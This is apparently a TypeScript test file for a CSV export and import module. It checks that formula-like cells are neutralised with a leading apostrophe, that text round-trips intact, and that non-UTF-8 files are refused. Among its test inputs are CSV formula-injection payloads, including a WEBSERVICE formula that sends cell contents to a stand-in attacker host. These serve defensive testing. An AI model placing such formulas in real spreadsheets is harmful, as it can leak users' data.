// CSV files that editors open in a spreadsheet: no cell runs as a formula, every text comes
// back as it was written, and a file in an old code page is refused rather than garbled.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeText, EncodingError, parseCsv, toCsv } from '../../src/editor/csv';
import { readReview, reviewCsv } from '../../src/editor/reviewFile';

const HEADER = ['id', 'en question', 'en answer'];

describe('toCsv', () => {
  it('writes a cell that a spreadsheet would run as a formula with a leading apostrophe', () => {
    const cells = ['=HYPERLINK("https://evil.example","x")', '+1', '-2', '@SUM(A1)', '\tTAB', '\rCR', "'=already"];
    expect(toCsv([cells])).toBe(`\uFEFF"'=HYPERLINK(""https://evil.example"",""x"")",'+1,'-2,'@SUM(A1),'\tTAB,"'\rCR",''=already\r\n`);
  });

  it('leaves other cells as they are, apostrophes included', () => {
    expect(toCsv([["'quoted'", 'a-b', 'x=1', "l'été"]])).toBe("\uFEFF'quoted',a-b,x=1,l'été\r\n");
  });

  it('gives back every text it wrote, whatever it starts with', () => {
    const text = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom('=1+1', "'=1", "''-2", '- item\n- item', "'", ''));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
        expect(parseCsv(toCsv([HEADER, ...rows]))).toEqual([HEADER, ...rows]);
      }),
    );
  });
});

describe('the review file of faq:misses', () => {
  it("keeps a visitor's question that looks like a formula as text, and reads it back as it was asked", () => {
    const question = '=WEBSERVICE("https://evil.example/?"&A1)';
    const group = { question, locale: 'en', count: 3, variants: ['@cmd'] };
    const text = reviewCsv([{ group, action: 'new entry', entry: '', answer: null, nearest: [] }], () => undefined);
    expect(text).toContain(`"'=WEBSERVICE(""https://evil.example/?""&A1)"`);
    expect(text).toContain("'@cmd");
    const marked = parseCsv(text).map((row, index) => (index === 0 ? row : ['yes', ...row.slice(1)]));
    expect(readReview('review.csv', toCsv(marked)).decisions).toEqual([{ row: 2, action: 'new entry', entry: '', locale: 'en', question }]);
  });
});

describe('decodeText', () => {
  const bytes = (...parts: (number[] | string)[]) =>
    new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...new TextEncoder().encode(part)] : part)));
  const utf16 = (text: string, littleEndian: boolean) =>
    Array.from(text).flatMap((char) => {
      const code = char.charCodeAt(0);
      return littleEndian ? [code & 0xff, code >> 8] : [code >> 8, code & 0xff];
    });

  it('reads UTF-8 with or without a byte order mark, and UTF-16 of either byte order with one', () => {
    const text = 'question\nquand a été fondé ICLEI\n본부는 어디';
    expect(decodeText('a.csv', bytes(text))).toBe(text);
    expect(decodeText('a.csv', bytes([0xef, 0xbb, 0xbf], text))).toBe(text);
    expect(decodeText('a.csv', bytes([0xff, 0xfe], utf16(text, true)))).toBe(text);
    expect(decodeText('a.csv', bytes([0xfe, 0xff], utf16(text, false)))).toBe(text);
  });

  it('refuses a file in an old code page, and says how to save it as CSV UTF-8', () => {
    // "café" as Excel's "CSV (Comma delimited)" writes it on a Western European Windows: é is the byte E9.
    const windows1252 = bytes('question\ncaf', [0xe9], '\n');
    expect(() => decodeText('questions.csv', windows1252)).toThrow(EncodingError);
    expect(() => decodeText('questions.csv', windows1252)).toThrow(
      /^questions\.csv: error: this file is not saved as UTF-8 text.*Save it again as "CSV UTF-8": in Excel, File › Save As/,
    );
  });
});
